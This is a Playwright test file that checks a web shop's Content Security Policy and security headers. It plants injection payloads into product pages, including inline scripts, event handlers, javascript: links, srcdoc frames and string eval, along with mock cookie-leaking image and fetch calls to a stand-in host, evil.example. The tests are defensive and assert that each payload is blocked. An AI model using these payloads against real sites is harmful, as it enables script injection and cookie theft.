import { createHash } from 'node:crypto'
import type { Page } from '@playwright/test'
import { createCart } from '../prisma/factories/create-cart'
import { expect, signIn, test } from './fixtures'
import { placeOrder } from './steps/place-order'
import { putInCart } from './steps/put-in-cart'

const evil = 'https://evil.example'
const closed = "default-src 'none'; frame-ancestors 'none'"

type Violation = { directive: string; blocked: string }

/** Puts something into the page as it comes to this browser, as if it stood there, and notes what the policy blocks. */
async function openWith(page: Page, path: string, planted: string): Promise<() => Promise<Violation[]>> {
  await page.addInitScript(() => {
    const noted: Violation[] = []
    Object.assign(window, { noted })
    document.addEventListener('securitypolicyviolation', (event) => {
      noted.push({ directive: event.effectiveDirective, blocked: event.blockedURI })
    })
  })
  await page.route(path, async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace('<main id="main" tabindex="-1">', (main) => main + planted)
    expect(body).toContain(planted)
    await route.fulfill({ response, body })
  })
  // Whatever gets there is caught: nothing of these tests may reach another host.
  await page.route(`${evil}/**`, (route) =>
    route.fulfill({ contentType: 'text/javascript', body: 'window.attacked=1' }),
  )
  await page.goto(path)
  return () => page.evaluate(() => Reflect.get(window, 'noted') as Violation[])
}

const wasAttacked = (page: Page) => page.evaluate(() => 'attacked' in window)

test.describe('what somebody has put into a page does not run:', () => {
  test.beforeEach(({ allowConsole }) => {
    // React takes what it does not know out again, and says so (#418).
    allowConsole(/Content Security Policy|status of 404|ERR_FAILED|React error #418/)
  })

  for (const [name, planted, directive] of [
    ['a script', '<script>window.attacked=1</script>', 'script-src-elem'],
    ['a handler', '<img src="/icons/none.png" onerror="window.attacked=1">', 'script-src-attr'],
    ['a script of another site', `<script src="${evil}/a.js"></script>`, 'script-src-elem'],
    ['a module of another site', `<script type="module" src="${evil}/a.js"></script>`, 'script-src-elem'],
    ['a script in an address', '<script src="data:text/javascript,window.attacked=1"></script>', 'script-src-elem'],
    ['data with something behind', '<script>self.__next_f.push([1,""]);window.attacked=1</script>', 'script-src-elem'],
    ['data of another form', '<script>self.__next_f.push([1,`${window.attacked=1}`])</script>', 'script-src-elem'],
    ['a frame', `<iframe src="${evil}/"></iframe>`, 'frame-src'],
    ['an object', `<object data="${evil}/a"></object>`, 'object-src'],
    ['another base', `<base href="${evil}/">`, 'base-uri'],
    ['a style', '<style>main{display:none}</style>', 'style-src-elem'],
    ['a style of another site', `<link rel="stylesheet" href="${evil}/a.css">`, 'style-src-elem'],
    ['a style on an element', '<p style="position:fixed;inset:0">Sign in again</p>', 'style-src-attr'],
    ['a picture that tells another site', `<img src="${evil}/?cookie">`, 'img-src'],
  ] as const) {
    test(name, async ({ page, product }) => {
      const violations = await openWith(page, `/products/${product.slug}`, planted)
      await expect.poll(violations).toContainEqual(expect.objectContaining({ directive }))
      expect(await wasAttacked(page)).toBe(false)
      // And the page itself works.
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    })
  }

  test('a link that is a script', async ({ page, product }) => {
    const planted = '<a href="javascript:window.attacked=1">A free kettle</a>'
    // A page whose scripts do not run, or React would take what it does not know out again.
    await page.route('**/_next/static/**/*.js*', (route) => route.abort())
    const violations = await openWith(page, `/products/${product.slug}`, planted)
    await page.getByRole('link', { name: 'A free kettle' }).click()
    await expect.poll(violations).toContainEqual(expect.objectContaining({ directive: 'script-src-elem' }))
    expect(await wasAttacked(page)).toBe(false)
  })

  /** What the browser says about a script of a frame or about leaving the page, of which the page itself hears nothing. */
  const blockedFor = (page: Page, directive: RegExp) =>
    page.waitForEvent(
      'console',
      (message) => /Content Security Policy/.test(message.text()) && directive.test(message.text()),
    )

  test('a frame with a page of its own', async ({ page, product }) => {
    const blocked = blockedFor(page, /script-src/)
    await openWith(page, `/products/${product.slug}`, '<iframe srcdoc="<script>top.attacked=1</script>"></iframe>')
    await blocked
    expect(await wasAttacked(page)).toBe(false)
  })

  test('a form that sends elsewhere', async ({ page, product }) => {
    const planted = `<form action="${evil}/" method="post"><button>A free kettle</button></form>`
    await page.route('**/_next/static/**/*.js*', (route) => route.abort())
    await openWith(page, `/products/${product.slug}`, planted)
    const sent: string[] = []
    page.on('request', (request) => sent.push(request.url()))
    const blocked = blockedFor(page, /form-action/)
    await page.getByRole('button', { name: 'A free kettle' }).click({ noWaitAfter: true })
    await blocked
    expect(sent.filter((url) => url.startsWith(evil))).toEqual([])
  })

  test('text as a script, and a question to another site, also when one of our scripts wanted it', async ({
    page,
    product,
  }) => {
    const violations = await openWith(page, `/products/${product.slug}`, '<p>')
    const asked = page.evaluate((url) => fetch(url).then(() => 'answered', String), `${evil}/?cookie`)
    expect(await asked).toContain('Failed to fetch')
    // Text and no function: that is what the policy is to refuse.
    // oxlint-disable-next-line typescript/no-implied-eval
    await page.evaluate(() => setTimeout('window.attacked=1'))
    await expect.poll(violations).toContainEqual({ directive: 'script-src', blocked: 'eval' })
    expect(await wasAttacked(page)).toBe(false)
  })

  test('another site cannot frame ours', async ({ page, baseURL }) => {
    await page.route(`${evil}/`, (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/login"></iframe>` }),
    )
    await page.goto(`${evil}/`)
    await expect.poll(() => page.frames().map((frame) => frame.url())).toContain('chrome-error://chromewebdata/')
  })
})

test('every inline script of every page is data, and the policy names it', async ({
  page,
  shopper,
  product,
  database,
  sell,
}) => {
  const { variants } = await sell()
  await createCart(database, { userId: shopper.id, lines: variants.map((variant) => ({ variant })) })
  await signIn(page, shopper)
  await putInCart(page, product)
  const number = await placeOrder(page)
  await putInCart(page, product)
  const paths = ['/', '/products', '/products?query=xylophone', `/products/${product.slug}`, '/products/none', '/none']
  const own = [
    '/cart',
    '/checkout',
    '/account',
    '/account/orders',
    `/orders/${number}`,
    '/orders/none',
    '/login',
    '/register',
  ]
  for (const path of [...paths, ...own]) {
    const response = await page.request.get(path)
    const html = await response.text()
    const policy = response.headers()['content-security-policy'] ?? ''
    // Forms lead to the providers of sign-ins too; everything else is at home.
    expect(policy.replace(/form-action [^;]+/, ''), path).not.toMatch(/unsafe|nonce|\*|https?:/)
    // What no browser runs needs no hash: JSON for search engines.
    const inline = [
      ...html.matchAll(/<script(?![^>]*\bsrc=| type="application\/ld\+json">)[^>]*>(.*?)<\/script>/gs),
    ].map(([, script = '']) => script)
    expect(inline.length, path).toBeGreaterThan(1)
    for (const script of inline) {
      expect(policy, `${path}: ${script.slice(0, 80)}`).toContain(createHash('sha256').update(script).digest('base64'))
    }
    expect(html, path).not.toMatch(/ style="|<style| on[a-z]+="/)
  }
})

test('every kind of answer has its headers, once', async ({ request, product }) => {
  const slug = product.slug
  const [script = ''] = /\/_next\/static\/[^"]+\.js/.exec(await (await request.get('/')).text()) ?? []
  for (const { path, isPage = false, isFile = false, status = 200 } of [
    { path: '/', isPage: true },
    { path: `/products/${slug}`, isPage: true },
    { path: '/cart', isPage: true },
    { path: '/no-such-page', isPage: true, status: 404 },
    { path: `/api/products/${slug}` },
    { path: '/api/cart' },
    { path: '/api/me', status: 401 },
    { path: '/api/no-such-route', isPage: true, status: 404 },
    { path: '/api/auth/session' },
    { path: '/api/health/live' },
    { path: '/icon.svg' },
    { path: script, isFile: true },
    { path: '/pictures/after-brush-240.webp', isFile: true },
    { path: '/icons/none.png', isPage: true, status: 404 },
  ]) {
    const response = await request.get(path)
    expect(response.status(), path).toBe(status)
    const all = response.headersArray().map(({ name, value }) => [name.toLowerCase(), value] as const)
    const one = (name: string) => {
      const values = all.filter(([candidate]) => candidate === name).map(([, value]) => value)
      expect(values, `${name} of ${path}`).toHaveLength(1)
      return values[0]
    }
    const policy = one('content-security-policy')
    if (isPage) expect(policy, path).toMatch(/^default-src 'none'; script-src 'self' 'sha256-/)
    else expect(policy, path).toBe(closed)
    expect(one('x-content-type-options')).toBe('nosniff')
    expect(one('x-frame-options')).toBe('DENY')
    expect(one('referrer-policy')).toBe('same-origin')
    expect(all.map(([name]) => name)).not.toContain('strict-transport-security')
    if (isFile) continue
    expect(one('permissions-policy')).toContain('microphone=()')
    expect(one('cross-origin-opener-policy')).toBe('same-origin')
    expect(one('cross-origin-resource-policy')).toBe('same-origin')
  }
})

test('a page that the browser has already runs under the policy that it came with', async ({ page, product }) => {
  const path = `/products/${product.slug}`
  for (let visit = 0; visit < 3; visit++) {
    await page.goto(path)
    await page.getByRole('button', { name: /^Add to cart/ }).click()
    await expect(page.getByText('It’s in.')).toBeVisible()
    await page.goto('/login')
  }
  await page.goBack()
  await expect(page.getByRole('button', { name: /^Add to cart/ })).toBeVisible()
})
